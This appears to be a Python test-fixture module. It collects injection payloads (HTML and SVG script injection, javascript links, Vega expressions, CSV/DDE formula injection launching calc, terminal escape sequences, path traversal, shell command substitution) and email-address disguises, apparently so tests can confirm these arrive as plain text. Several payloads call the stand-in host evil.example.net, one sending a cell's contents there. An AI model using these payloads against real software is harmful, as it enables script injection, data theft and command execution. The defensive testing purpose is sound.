"""What a stranger may write into a reply, an address, a file name, a campaign or a header.

One table for all outputs: `PAYLOADS` by what they are after. A text of ours goes on with the name
of its payload, so that a test can tell that the payload arrived, and arrived as text.
"""

# Each would set this title, ask for this host, or write these words in a line of its own.
TAKEN = "taken"
HOST = "evil.example.net"
FORGED = "Wrote the removal list to nowhere"

MARKUP = {
    "script": f"<script>document.title='{TAKEN}'</script>",
    "image": f"<img src=x onerror=\"document.title='{TAKEN}'\">",
    "image of theirs": f"<img src='http://{HOST}/pixel.png'>",
    "end of an attribute": f'" autofocus onfocus="document.title=\'{TAKEN}\'" x="',
    "end of an element": "</td></pre></title></style></textarea></script>"
    f"<script>document.title='{TAKEN}'</script>",
    "svg": f"<svg><script>document.title='{TAKEN}'</script></svg>",
    "svg animation": f"<svg><animate onbegin=\"document.title='{TAKEN}'\" attributeName=x dur=1s>",
    "frame": f"<iframe srcdoc=\"<script>parent.document.title='{TAKEN}'</script>\"></iframe>",
    "style": f"<style>@import url(http://{HOST}/x.css);body{{display:none}}</style>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{HOST}/">',
    "base": f"<base href=http://{HOST}/>",
    "link": f"<a href=\"javascript:document.title='{TAKEN}'\">550</a>",
    "form": f"<form action=http://{HOST}/><button autofocus>ok</button></form>",
    "comment": "<!-- --!> <![CDATA[ ]]> <?xml ?>",
    "half an entity": "&lt;script&gt; &#60;b&#62; &amp;quot;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
}
MARKDOWN = {
    "picture": f"![x](http://{HOST}/pixel.png)",
    "markdown link": f"[550](javascript:document.title='{TAKEN}')",
    "table and heading": "| a | b |\n|---|---|\n# heading\n```\n---",
    "formula": r"$\href{javascript:document.title='taken'}{550}$",
    "display formula": r"$$\require{html}\style{color:red}{550}$$ \[x\] \(y\)",
    "environment": r"\begin{align}550\end{align} \ref{x}",
}
# Data that a chart could take for code: Vega evaluates expressions, its tooltips show pictures.
VEGA = {
    "expression": f"'+(document.title='{TAKEN}')+'",
    "signal": f"{{\"signal\": \"'{TAKEN}'\"}} datum['x'] toString.constructor('x')()",
    "script in a spec": f"</script><script>document.title='{TAKEN}'</script>",
    "field": "a.b[0]\\.c'\"",
    "tooltip": f'{{"image": "http://{HOST}/x.png"}}',
}
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example.net/"&A1,"550")',
    "plus": "+1+cmd|' /c calc'!A1",
    "minus": "-2+3+cmd|' /c calc'!A1",
    "at": "@SUM(1+1)*cmd|' /c calc'!A1",
    "tab": "\t=1+1",
    "tab alone": "\t550",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM(1)",
    "after blanks": "  =1+1",
    "after a hard blank": "\xa0=1+1",
    "after a mark without a shape": "\ufeff\u200b=1+1",
    "after a quote": '"=1+1"',
    "after an apostrophe": "'=1+1",
    "after a semicolon": "550 no;=1+1",
    "after a comma and a quote": '550 no,"=1+1',
    "after a tab": "550\t@SUM(1)",
    "in a later line": "550 no\r\n-1+1",
    "DDE": '=DDE("cmd";"/C calc";"x")',
}
TERMINAL = {
    "clear the screen": "\x1b[2J\x1b[H",
    "colour": "\x1b[31m550\x1b[0m",
    "title": "\x1b]0;taken\x07",
    "link of a terminal": "\x1b]8;;http://evil.example.net/\x1b\\550\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "one-byte escape": "\x9b31m\x90x\x9c",
    "bell and backspace": "\x07\x08\x08\x08ok",
    "carriage return over the line": f"550\r{FORGED}",
    "line of ours": f"550\n{FORGED}",
    "other line ends": f"550\x0b{FORGED}\x0c{FORGED}\x85{FORGED}\u2028{FORGED}\u2029{FORGED}",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f \u061c",
    "without a shape": "gone\u200b\u200c\u200d\u2060\ufeff\u00ad@example.org",
    "tags": "\U000e0041\U000e0042",
    "null": "550\x00no",
}
PATHS = {
    "up": "../../../../srv/taken",
    "up on Windows": "..\\..\\..\\taken",
    "from the root": "/srv/taken",
    "drive": "C:\\taken",
    "pattern": "*[!a]?.csv",
    "option": "--help",
    "shell": "$(touch taken);`touch taken`|touch taken",
    "format": "%s%n {0} {name} %(x)s",
    "device": "NUL",
}
PAYLOADS = {**MARKUP, **MARKDOWN, **VEGA, **FORMULAS, **TERMINAL, **PATHS}

# How an address stands where no @ does, or not alone: {a} is all of it, {l} and {d} its parts.
FORMS = {
    "VERP": "<bounce-77-{l}={d}@lists.example.net>",
    "VERP without its end": "no id bounce-77-{l}={d}",
    "VERP of a list": "news-bounces+{l}={d}@lists.example.net",
    "BATV": "<prvs=0891a9abd5={a}>",
    "SRS": "<SRS0=HHH=TT={d}={l}@forward.example.net>",
    "SRS twice": "<SRS1=H=forward.example.net==HHH=TT={d}={l}@other.example.net>",
    "percent hack": "<{l}%{d}@relay.example.net>",
    "link": "see https://www.example.com/u?email={l}%40{d}&x=1",
    "link in a link": "see https://www.example.com/?to=%2Fu%3Femail%3D{l}%2540{d}",
    "quoted-printable": "To: {l}=40{d}",
    "HTML": "<b>{l}&#64;{d}</b> {l}&#x40;{d} {l}&commat;{d}",
    "JSON": '{{"to":"{l}\\u0040{d}"}}',
    "xtext": "ORCPT=rfc822;{l}+40{d}",
    "full width": "{l}＠{d}",
    "disguised": "{l} (at) {d}, {l}[at]{d}, {l} < at > {d}",
    "file name": "Maildir/new/1714550400_{l}_at_{d}.eml",
    "several": "{a},{a};{a}|{a}",
    "in capitals": "{u}",
    "message id": "<20240501.{a}>",
    "header": 'X-Failed-Recipients: {a}\r\nTo: "a name" <{a}>',
}
